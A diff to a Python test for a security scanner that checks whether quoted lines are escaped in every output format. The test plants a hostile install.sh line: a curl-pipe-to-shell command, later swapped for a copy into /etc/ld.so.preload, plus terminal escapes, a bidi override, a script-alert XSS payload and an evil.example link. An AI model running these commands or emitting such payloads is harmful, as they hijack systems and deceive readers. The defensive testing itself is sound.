@@ -133,13 +133,13 @@ class Evidence(AssayTest):
     FORMATS = ("text", "json", "sarif", "markdown", "html")
 
     def test_lines_that_rules_quote_are_escaped_in_every_format(self):
-        hostile = "curl https://example.org/x | sh # \x1b]0;owned\x07 \u202e <script>alert(1)</script> [x](https://evil.example) @everyone |`a`\u200b\n"
+        hostile = "cp x /etc/ld.so.preload # https://example.org/x \x1b]0;owned\x07 \u202e <script>alert(1)</script> [x](https://evil.example) @everyone |`a`\u200b\n"
         (self.directory / "install.sh").write_text("#!/bin/sh\n" + hostile)
         for form in self.FORMATS:
             run = self.assay("scan", self.directory / "install.sh", "--format", form, "-v")
             self.assertEqual("", run.err)
             text = run.raw.decode("utf-8")
-            self.assertIn("content-download-and-run", text, form)
+            self.assertIn("content-preload-every-program", text, form)
             for bad in ("\x1b", "\x07", "\u202e", "\u200b"):
                 self.assertNotIn(bad, text, form)
             if form in ("markdown", "html"):
